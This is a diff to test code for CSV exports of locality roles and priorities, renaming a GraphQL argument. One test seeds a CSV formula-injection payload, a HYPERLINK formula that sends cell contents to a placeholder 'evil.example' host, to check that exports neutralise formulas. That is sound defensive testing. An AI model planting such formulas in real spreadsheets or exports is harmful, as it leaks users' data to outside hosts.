@@ -128,7 +128,7 @@ describe('people and roles by locality as CSV', () => {
     const twoPages = await t.countStatements(async () => {
       records = (await download('/exports/roles.csv?locality=mortimer&history=true')).records();
     });
-    const api = await t.gql(`{ localityRoles(locality: "mortimer", first: 1) { totalCount } }`);
+    const api = await t.gql(`{ localityRoles(localityCode: "mortimer", first: 1) { totalCount } }`);
     expect(api.data.localityRoles.totalCount).toBeGreaterThanOrEqual(620);
     expect(records).toHaveLength(api.data.localityRoles.totalCount);
     expect(records.filter((r) => r.Person === 'Network Contact')).toHaveLength(620);
@@ -185,7 +185,7 @@ describe('priorities as CSV', () => {
     const ledbury = (await db.locality.findUniqueOrThrow({ where: { code: 'ledbury' } })).id;
     const title = '=HYPERLINK("http://evil.example/?"&A1,"Click me")';
     await db.priority.create({ data: { localityId: ledbury, title, description: '+SUM(1,2)', theme: '-10% budget', status: 'DRAFT' } });
-    const api = await t.gql(`{ priorities(locality: "ledbury", status: DRAFT) { edges { node { title } } } }`);
+    const api = await t.gql(`{ priorities(localityCode: "ledbury", status: DRAFT) { edges { node { title } } } }`);
     expect(api.data.priorities.edges.map((e: any) => e.node.title)).toContain(title);
     const row = (await download('/exports/priorities.csv?locality=ledbury&status=DRAFT')).records().find((r) => r.Priority === `'${title}`);
     expect(row).toMatchObject({ Priority: `'${title}`, Description: "'+SUM(1,2)", Theme: "'-10% budget" });
